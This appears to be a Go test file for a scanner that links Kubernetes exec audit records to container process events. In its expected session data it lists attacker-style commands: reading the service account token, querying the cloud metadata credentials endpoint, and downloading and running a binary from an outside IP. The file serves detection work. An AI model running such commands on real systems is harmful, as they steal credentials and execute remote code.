package cmd

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

var sessionLogs = []string{"../testdata/sessions/audit.log", "../testdata/sessions/process.ndjson"}

// storyFinding is the part of a finding the story tests read.
type storyFinding struct {
	ID   string
	Rule struct{ ID string }
	User *struct{ Name string }
	Kind string
	Orch *struct {
		Namespace string
		Resource  *struct{ Name string }
	} `json:"orchestrator"`
	Container *struct{ Name string }
	Process   *struct {
		Args     []string
		EntityID string `json:"entity_id"`
	}
	Audit *struct {
		AuditID      string `json:"audit_id"`
		Subresource  string
		FallbackFrom string `json:"fallback_from"`
	} `json:"kubernetes"`
	Started *struct {
		Args     []string
		EntityID string `json:"entity_id"`
		End      string
		ExitCode *int64 `json:"exit_code"`
	} `json:"started_process"`
	Commands []struct {
		Args []string
		Time string
	}
	Related    []string
	Candidates []string
	Context    []struct {
		Line int64
		Note string
	}
	Notes []string
}

func storyFindings(t *testing.T, args ...string) []storyFinding {
	t.Helper()
	out, errOut, code := run(t, nil, append([]string{"scan", "--format", "json", "--guide", "none"}, args...)...)
	if code != ExitFindings {
		t.Fatalf("exit %d\n%s", code, errOut)
	}
	var doc struct{ Findings []storyFinding }
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatal(err)
	}
	return doc.Findings
}

func byAuditID(fs []storyFinding, id string) *storyFinding {
	for i := range fs {
		if fs[i].Audit != nil && fs[i].Audit.AuditID == id {
			return &fs[i]
		}
	}
	return nil
}

func byEntity(fs []storyFinding, id string) *storyFinding {
	for i := range fs {
		if fs[i].Process != nil && fs[i].Process.EntityID == id {
			return &fs[i]
		}
	}
	return nil
}

func args(ss []string) string { return strings.Join(ss, " ") }

// TestSessionStories reads an audit log and the process events of the same
// hour (testdata/sessions/, described in EXPECTED.md) and checks the story
// of every session: who, what started, what was typed, what was refused.
func TestSessionStories(t *testing.T) {
	fs := storyFindings(t, sessionLogs...)
	if len(fs) != 17 {
		t.Errorf("%d findings, want 17", len(fs))
	}
	commands := func(f *storyFinding) []string {
		var out []string
		for _, c := range f.Commands {
			out = append(out, args(c.Args))
		}
		return out
	}

	// S1: alice's interactive bash, linked both ways, 14 commands in order.
	alice := byAuditID(fs, "fd4f7dd5-096c-490e-87cf-80705d9082c0")
	shell := byEntity(fs, "DjoHANSA81h/k3AJ/n/GTjNbG1rQiY0i")
	if alice == nil || shell == nil {
		t.Fatal("S1: missing findings")
	}
	if alice.Rule.ID != rule1 || shell.Rule.ID != rule2 || args(alice.Related) != shell.ID || args(shell.Related) != alice.ID {
		t.Errorf("S1: alice %s related %v, shell %s related %v", alice.Rule.ID, alice.Related, shell.Rule.ID, shell.Related)
	}
	if c := commands(alice); len(c) != 14 || c[0] != "id" || c[4] != "cat /var/run/secrets/kubernetes.io/serviceaccount/token" || c[13] != "rm -f /tmp/x" || args(commands(shell)) != args(c) {
		t.Errorf("S1: commands %q", c)
	}
	for i := 1; i < len(alice.Commands); i++ {
		if alice.Commands[i].Time < alice.Commands[i-1].Time {
			t.Errorf("S1: commands out of time order at %d", i)
		}
	}

	// S2 and S3: non-interactive execs, no rule about the process, but the
	// request knows what it started.
	for id, want := range map[string]string{
		"40c966f1-bd85-404c-8c2d-b52cbfbde324": "ls -la /usr/share/nginx/html",
		"a7710bd2-1293-4ce9-af41-20949d2bce81": "tar cf - /var/lib/postgresql/data/pg_hba.conf",
	} {
		f := byAuditID(fs, id)
		if f == nil || f.Started == nil || args(f.Started.Args) != want || len(f.Related) != 0 || len(f.Commands) != 0 {
			t.Errorf("%s: %+v", id, f)
		}
	}

	// S10: kim's script piped to sh without a terminal: the request knows
	// what it started and what that shell ran, in time order.
	kim := byAuditID(fs, "5b0e7c1a-93d4-4f6e-b2a8-6c1d9e4f7a30")
	wantKim := []string{"curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/", "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
		"wget -q -O /tmp/.cache-update http://198.51.100.7/u", "chmod +x /tmp/.cache-update", "/tmp/.cache-update --quiet"}
	if kim == nil || kim.Started == nil || kim.Started.EntityID != "qT3vYx8kPz0mWc5RbN7dHs2LfJ9gA4eU" || !slices.Equal(commands(kim), wantKim) {
		t.Errorf("S10: %+v", kim)
	}

	// S4: two users a minute apart in one pod: each gets their own shell.
	bob := byAuditID(fs, "82099679-a88e-4c21-80a7-20ba95f08847")
	dave := byAuditID(fs, "a2badc85-5f81-4dd8-a339-5787d74efec9")
	if bob == nil || dave == nil || bob.Started == nil || dave.Started == nil ||
		bob.Started.EntityID != "ZHxhrmEnlicTDgy0smM4uQsXuQbGD9Jk" || dave.Started.EntityID != "bSj+A7UBOeZGKYIk6SpzXmFZz3cbXKbb" ||
		len(bob.Commands) != 3 || len(dave.Commands) != 2 {
		t.Errorf("S4: bob %+v dave %+v", bob, dave)
	}

	// S5: mallory's refused exec: the denied-exec rule, no session.
	if m := byAuditID(fs, "75054e8d-4788-4e73-9d7c-e1489d48eebb"); m == nil || m.Rule.ID != ruleDenied || m.Started != nil {
		t.Errorf("S5: %+v", m)
	}

	// S6: frank's WebSocket exec, the k8sexec rule, linked with 3 commands.
	if fr := byAuditID(fs, "3ca06bc8-f840-4369-bf88-613e6a682e1a"); fr == nil || fr.Rule.ID != rule3 || len(fr.Related) != 1 || len(fr.Commands) != 3 {
		t.Errorf("S6: %+v", fr)
	}

	// S7: erin's refused WebSocket attempt and the SPDY retry are one
	// finding, on the retry, and the refused request is not reported alone.
	erin := byAuditID(fs, "d8dc5cec-43e2-45cc-8f5f-9e311e54e03f")
	if erin == nil || erin.Audit.FallbackFrom != "c792e28e-ffa1-486f-b124-c6a133269a24" || len(erin.Related) != 1 || len(erin.Commands) != 2 {
		t.Fatalf("S7: %+v", erin)
	}
	if len(erin.Context) != 1 || !strings.Contains(erin.Context[0].Note, "refused WebSocket attempt") || !strings.Contains(strings.Join(erin.Notes, " "), "fell back to SPDY") {
		t.Errorf("S7: context %+v notes %q", erin.Context, erin.Notes)
	}
	if byAuditID(fs, "c792e28e-ffa1-486f-b124-c6a133269a24") != nil {
		t.Error("S7: the refused attempt is reported on its own too")
	}

	// S8: kubectl debug: the ephemeral container and the attach to it.
	add := byAuditID(fs, "37151ff9-c71d-4c1a-a906-cd7a4801aaa7")
	att := byAuditID(fs, "06a25f0f-6f26-434b-a1e8-b4b022225c13")
	if add == nil || att == nil || args(add.Related) != att.ID || args(att.Related) != add.ID || !strings.Contains(strings.Join(att.Notes, " "), "debugger-h7k2p") {
		t.Errorf("S8: add %+v attach %+v", add, att)
	}

	// S9: heidi's attach stands alone.
	if h := byAuditID(fs, "8d62f231-93d1-4c23-aeb7-e6f90b7412e7"); h == nil || h.Rule.ID != ruleAttach || len(h.Related) != 0 {
		t.Errorf("S9: %+v", h)
	}
}

// TestAmbiguousSessions: two requests and two shells a linker cannot tell
// apart are listed as candidates on every side, and nothing is linked.
func TestAmbiguousSessions(t *testing.T) {
	fs := storyFindings(t, "../testdata/sessions/audit_ambiguous.log", "../testdata/sessions/process_ambiguous.ndjson")
	if len(fs) != 4 {
		t.Fatalf("%d findings, want 4", len(fs))
	}
	for _, f := range fs {
		if len(f.Related) != 0 || len(f.Candidates) != 2 || f.Started != nil && f.Kind != "process" {
			t.Errorf("%s (%s): related %v candidates %v started %+v", f.ID, f.Kind, f.Related, f.Candidates, f.Started)
		}
	}
}

// TestStoryGolden pins the story as people read it: the table and the
// timeline of the session logs.
func TestStoryGolden(t *testing.T) {
	for _, format := range []string{"table", "timeline"} {
		out, _, _ := run(t, nil, append([]string{"scan", "--format", format, "--color", "never"}, sessionLogs...)...)
		golden(t, "sessions."+format+".golden", out)
	}
}

// TestLongSessionIsBounded: a session with thousands of commands keeps the
// first ones and counts the rest, in every output.
func TestLongSessionIsBounded(t *testing.T) {
	var b strings.Builder
	leader := `{"@timestamp":"2026-11-22T10:00:00.000Z","event":{"category":["process"],"type":["start"],"action":"exec"},"container":{"id":"c1","name":"app"},"orchestrator":{"namespace":"ns","resource":{"name":"pod-1"}},"process":{"entity_id":"LEADER","pid":10,"name":"bash","executable":"/bin/bash","args":["bash"],"interactive":true,"entry_leader":{"entity_id":"LEADER","same_as_process":true,"entry_meta":{"type":"container"}}}}`
	b.WriteString(leader + "\n")
	const n = 5000
	for i := range n {
		fmt.Fprintf(&b, `{"@timestamp":"2026-11-22T10:%02d:%02d.000Z","event":{"category":["process"],"type":["start"],"action":"exec"},"container":{"id":"c1","name":"app"},"orchestrator":{"namespace":"ns","resource":{"name":"pod-1"}},"process":{"entity_id":"C%d","pid":%d,"name":"cat","executable":"/bin/cat","args":["cat","/tmp/f%d"],"entry_leader":{"entity_id":"LEADER","interactive":true,"same_as_process":false,"entry_meta":{"type":"container"}}}}`+"\n",
			i/60%60, i%60, i, 100+i, i)
	}
	out, errOut, code := run(t, strings.NewReader(b.String()), "scan", "--format", "json", "-")
	if code != ExitFindings {
		t.Fatalf("exit %d\n%s", code, errOut)
	}
	var doc struct {
		Findings []struct {
			Commands     []struct{ Args []string }
			MoreCommands int64 `json:"more_commands"`
		}
	}
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatal(err)
	}
	if len(doc.Findings) != 1 {
		t.Fatalf("%d findings", len(doc.Findings))
	}
	f := doc.Findings[0]
	if len(f.Commands) != 50 || f.MoreCommands != n-50 || args(f.Commands[0].Args) != "cat /tmp/f0" {
		t.Errorf("%d commands kept, %d more; want 50 and %d", len(f.Commands), f.MoreCommands, n-50)
	}
	table, _, _ := run(t, strings.NewReader(b.String()), "scan", "--guide", "none", "-")
	if !strings.Contains(table, fmt.Sprintf("... %d more", n-20)) {
		t.Errorf("the table should say how many more commands there were")
	}
}

// TestRepeatedScriptSessions: a job that pipes a script to sh in the same
// container again and again. The scan keeps the 3 earliest of those
// sessions, whole, whatever order the process events come in, in two
// passes over files as in one over stdin; the later requests are told why
// they have none. So too when the events carry no entry_leader.start
// (placed by @timestamp), when two sessions start at the same time, and
// when rules match the leaders and commands (a rule hit counts toward the
// limits like any event, as in the second pass, which runs no rules).
func TestRepeatedScriptSessions(t *testing.T) {
	const n = 5
	for _, tc := range []struct {
		name            string
		noStart, sameAt bool
		rules           string
	}{
		{name: "plain"},
		{name: "no start", noStart: true},
		{name: "equal starts", sameAt: true},
		{name: "rules", rules: `process.name:("curl" or "sh")`},
	} {
		var audit, procs []string
		for i := range n {
			at := time.Date(2026, 11, 22, 10, 0, 20*i, 0, time.UTC)
			ts := func(d time.Duration) string { return at.Add(d).Format("2006-01-02T15:04:05.000000Z") }
			audit = append(audit, fmt.Sprintf(`{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"job-%d","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/batch/pods/worker-0/exec?command=sh\u0026container=worker\u0026stdin=true\u0026stdout=true","verb":"create","user":{"username":"system:serviceaccount:batch:runner"},"sourceIPs":["10.0.0.9"],"objectRef":{"resource":"pods","namespace":"batch","name":"worker-0","subresource":"exec"},"responseStatus":{"code":101},"requestReceivedTimestamp":%q,"stageTimestamp":%q,"annotations":{"authorization.k8s.io/decision":"allow"}}`,
				i, ts(0), ts(2*time.Second)))
			start := `"start":"` + ts(300*time.Millisecond) + `",`
			if tc.noStart {
				start = ""
			} else if tc.sameAt && i >= 2 {
				start = `"start":"2026-11-22T10:00:40.300000Z",` // job-2's, for job-2 to job-4
			}
			proc := func(id, name string, same bool, d time.Duration) string {
				return fmt.Sprintf(`{"@timestamp":%q,"event":{"category":["process"],"type":["start"],"action":"exec"},"container":{"id":"c1","name":"worker"},"orchestrator":{"namespace":"batch","resource":{"name":"worker-0"}},"process":{"entity_id":%q,"pid":%d,"name":%q,"args":[%q,"step-%d"],"interactive":false,"entry_leader":{"entity_id":"S%d","args":["sh"],"interactive":false,"same_as_process":%t,%s"entry_meta":{"type":"container"}}}}`,
					ts(d), id, 100+i, name, name, i, i, same, start)
			}
			leader := strings.Replace(proc(fmt.Sprintf("S%d", i), "sh", true, 300*time.Millisecond), fmt.Sprintf(`"args":["sh","step-%d"]`, i), `"args":["sh"]`, 1)
			// The leader's end, with exit code i: kept for the sessions
			// kept, as their other events are.
			end := strings.Replace(strings.Replace(leader, `"type":["start"],"action":"exec"`, `"type":["end"],"action":"end"`, 1),
				`"interactive":false,"entry_leader"`, fmt.Sprintf(`"interactive":false,"exit_code":%d,"entry_leader"`, i), 1)
			end = strings.Replace(end, ts(300*time.Millisecond), ts(1500*time.Millisecond), 1)
			procs = append(procs, leader, proc(fmt.Sprintf("S%d-a", i), "curl", false, 500*time.Millisecond), proc(fmt.Sprintf("S%d-b", i), "tar", false, 900*time.Millisecond), end)
		}
		slices.Reverse(procs) // the latest first: each earlier session pushes a later one out
		dir := t.TempDir()
		auditFile, procFile := filepath.Join(dir, "audit.log"), filepath.Join(dir, "process.ndjson")
		if err := os.WriteFile(auditFile, []byte(strings.Join(audit, "\n")+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(procFile, []byte(strings.Join(procs, "\n")+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		var flags []string
		if tc.rules != "" {
			rule := filepath.Join(dir, "rule.toml")
			if err := os.WriteFile(rule, []byte("[rule]\nrule_id = \"r-1\"\nname = \"Scripted\"\nseverity = \"low\"\nrisk_score = 21\nlanguage = \"kuery\"\ntype = \"query\"\nquery = '"+tc.rules+"'\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			flags = []string{"--rules", rule}
		}
		var stories []string
		for _, how := range []string{"files", "stdin"} {
			var out, errOut string
			var code int
			if how == "files" {
				out, errOut, code = run(t, nil, append(append([]string{"scan", "--format", "json", "--guide", "none"}, flags...), auditFile, procFile)...)
			} else {
				out, errOut, code = run(t, strings.NewReader(strings.Join(append(audit, procs...), "\n")+"\n"), append(append([]string{"scan", "--format", "json", "--guide", "none"}, flags...), "-")...)
			}
			var doc struct{ Findings []storyFinding }
			if code != ExitFindings || json.Unmarshal([]byte(out), &doc) != nil {
				t.Fatalf("%s, %s: exit %d\n%s", tc.name, how, code, errOut)
			}
			var story []string
			for i := range n {
				f := byAuditID(doc.Findings, fmt.Sprintf("job-%d", i))
				if f == nil {
					t.Fatalf("%s, %s: no finding for job-%d", tc.name, how, i)
				}
				var got []string
				for _, c := range f.Commands {
					got = append(got, args(c.Args))
				}
				started := ""
				if f.Started != nil {
					started = f.Started.EntityID
					if f.Started.ExitCode != nil {
						started += fmt.Sprintf("/exit %d", *f.Started.ExitCode)
					}
				}
				if lost := strings.Contains(strings.Join(f.Notes, " "), "this session ran were not kept"); lost != (tc.rules != "" && i >= 3) {
					t.Errorf("%s, %s: job-%d notes %q: should say the session's programs were not kept only where a rule linked a session the scan did not keep", tc.name, how, i, f.Notes)
				}
				story = append(story, fmt.Sprintf("job-%d:%s%q", i, started, got))
			}
			stories = append(stories, strings.Join(story, " "))
		}
		want := []string{}
		for i := range n {
			if i < 3 {
				want = append(want, fmt.Sprintf(`job-%d:S%d/exit %d["curl step-%d" "tar step-%d"]`, i, i, i, i, i))
			} else {
				want = append(want, fmt.Sprintf("job-%d:[]", i))
			}
		}
		switch {
		case tc.sameAt:
			// Of the sessions starting at the same time, the first read
			// (job-4's, latest first) takes the last place, whole.
			want[2], want[4] = "job-2:[]", `job-4:S4/exit 4["curl step-4" "tar step-4"]`
		case tc.rules != "":
			// The rule reported every leader: each is a finding of its
			// own and linked, but only the 3 sessions kept have commands
			// (the others' findings say so). Their ends are kept: the
			// ends have twice the places (ContextQuietEnds).
			want[3], want[4] = "job-3:S3/exit 3[]", "job-4:S4/exit 4[]"
		}
		if table, _, _ := run(t, nil, append(append([]string{"scan", "--color", "never"}, flags...), auditFile, procFile)...); tc.name == "plain" && !strings.Contains(table, "keeps the 3 earliest of its sessions without a terminal") {
			t.Error("the later requests' guide should say why no session was linked")
		}
		for k, how := range []string{"files", "stdin"} {
			if stories[k] != strings.Join(want, " ") {
				t.Errorf("%s, %s:\n got %s\nwant %s", tc.name, how, stories[k], strings.Join(want, " "))
			}
		}
	}
}

// Defend merges the events of a short-lived process into one (start and
// end, one event.type array): such an event is the session's first
// process and its end, or a command and its end, at once. Read from
// files (the sessions without a terminal in a second pass) or from stdin
// (one pass), the exec request gets the code its command exited with,
// and the shell its command's.
func TestMergedProcessEventsAreStartAndEnd(t *testing.T) {
	exec := func(id, cmd, at string, tty bool) string {
		flags := "stdout=true"
		if tty {
			flags = "stdin=true\\u0026stdout=true\\u0026tty=true"
		}
		return fmt.Sprintf(`{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":%q,"stage":"ResponseComplete","requestURI":"/api/v1/namespaces/shop/pods/api-1/exec?command=%s\u0026container=api\u0026%s","verb":"create","user":{"username":"alice"},"sourceIPs":["10.0.0.9"],"objectRef":{"resource":"pods","namespace":"shop","name":"api-1","subresource":"exec"},"responseStatus":{"code":101},"requestReceivedTimestamp":%q,"stageTimestamp":%q,"annotations":{"authorization.k8s.io/decision":"allow"}}`,
			id, cmd, flags, at+"Z", at+"5Z")
	}
	proc := func(entity, leader, name, at string, same, tty bool, types, extra string) string {
		return fmt.Sprintf(`{"@timestamp":"%sZ","event":{"category":["process"],"type":%s,"action":["fork","exec","end"]},"container":{"id":"c1","name":"api"},"orchestrator":{"namespace":"shop","resource":{"name":"api-1"}},"process":{"entity_id":%q,"pid":7,"name":%q,"args":[%q],"interactive":%t,%s"entry_leader":{"entity_id":%q,"args":[%q],"interactive":%t,"same_as_process":%t,"start":"%sZ","entry_meta":{"type":"container"}}}}`,
			at, types, entity, name, name, tty && same, extra, leader, map[bool]string{true: name, false: "bash"}[same], tty, same, at)
	}
	audit := exec("q-1", "ls", "2026-11-22T10:00:00.1", false) + "\n" + exec("i-1", "bash", "2026-11-22T10:01:00.1", true) + "\n"
	procs := proc("Q", "Q", "ls", "2026-11-22T10:00:00.3", true, false, `["start","end"]`, `"exit_code":2,`) + "\n" +
		proc("I", "I", "bash", "2026-11-22T10:01:00.3", true, true, `["start"]`, "") + "\n" +
		proc("C", "I", "cat", "2026-11-22T10:01:05", false, true, `["start","end"]`, `"exit_code":1,`) + "\n"
	dir := t.TempDir()
	a, p := filepath.Join(dir, "audit.log"), filepath.Join(dir, "proc.ndjson")
	if err := os.WriteFile(a, []byte(audit), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(procs), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, how := range []string{"files", "stdin"} {
		var out string
		if how == "files" {
			out, _, _ = run(t, nil, "scan", "-q", "-f", "json", "--guide", "none", a, p)
		} else {
			out, _, _ = run(t, strings.NewReader(audit+procs), "scan", "-q", "-f", "json", "--guide", "none", "-")
		}
		var doc struct {
			Findings []struct {
				Kubernetes *struct {
					AuditID string `json:"audit_id"`
				}
				Started *struct {
					EntityID string `json:"entity_id"`
					ExitCode *int64 `json:"exit_code"`
				} `json:"started_process"`
				Commands []struct {
					Args     []string
					ExitCode *int64 `json:"exit_code"`
				}
			}
		}
		if err := json.Unmarshal([]byte(out), &doc); err != nil {
			t.Fatalf("%s: %v\n%s", how, err, out)
		}
		got := map[string]string{}
		for _, f := range doc.Findings {
			if f.Kubernetes == nil || f.Started == nil {
				continue
			}
			s := f.Started.EntityID
			if f.Started.ExitCode != nil {
				s += fmt.Sprintf(" exit %d", *f.Started.ExitCode)
			}
			for _, c := range f.Commands {
				s += " " + strings.Join(c.Args, " ")
				if c.ExitCode != nil {
					s += fmt.Sprintf(" exit %d", *c.ExitCode)
				}
			}
			got[f.Kubernetes.AuditID] = s
		}
		if got["q-1"] != "Q exit 2" || got["i-1"] != "I cat exit 1" {
			t.Errorf("%s: sessions %q, want q-1 Q exit 2, and i-1 I with cat exit 1", how, got)
		}
	}
}
